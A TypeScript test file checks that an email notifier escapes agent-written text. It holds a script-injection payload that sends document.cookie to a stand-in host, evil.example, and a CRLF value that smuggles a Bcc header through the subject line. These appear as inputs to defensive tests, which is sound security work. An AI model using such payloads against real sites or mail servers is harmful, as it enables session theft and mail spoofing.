import { afterEach, describe, expect, it } from "vitest";
import { createEmailNotifier } from "@/lib/notifiers";
import { decodeHeaderWords, parseMail } from "./support/mime";
import { sampleNotice } from "./support/sample-notice";
import { startSmtpSink } from "./support/smtp-sink";

let sink: Awaited<ReturnType<typeof startSmtpSink>> | undefined;
afterEach(async () => {
  await sink?.close();
  sink = undefined;
});

describe("agent-written text in a question email", () => {
  it("arrives escaped in the HTML part and as written in the plain-text part", async () => {
    sink = await startSmtpSink();
    const question = `Approve? <script>fetch("https://evil.example/"+document.cookie)</script>`;
    await createEmailNotifier({ host: sink.host, port: sink.port, security: "none", from: "parley@example.com" }).notify(sampleNotice({ question }));
    const { html, text } = parseMail(sink.messages[0]!.data);
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain("Approve? &#60;script&#62;fetch(&#34;https://evil.example/&#34;+document.cookie)&#60;/script&#62;");
    expect(text).toContain(`> ${question}`);
  });

  it("can't add a header or a recipient through the subject line", async () => {
    sink = await startSmtpSink();
    const question = "Quick one\r\nBcc: attacker@evil.example\r\n\r\n<b>injected body</b>";
    await createEmailNotifier({ host: sink.host, port: sink.port, security: "none", from: "parley@example.com" }).notify(sampleNotice({ question }));
    const [message] = sink.messages;
    const mail = parseMail(message!.data);

    expect(sink.messages.flatMap((each) => each.recipients)).toEqual(["sam@example.com", "alex@example.com"]);
    expect(mail.headers.map((header) => header.name.toLowerCase())).not.toContain("bcc");
    expect(message!.data).not.toMatch(/^Bcc:/im);
    expect(decodeHeaderWords(mail.header("Subject")!)).toBe("Question for you: Quick one Bcc: attacker@evil.example <b>injected body</b>");
  });
});
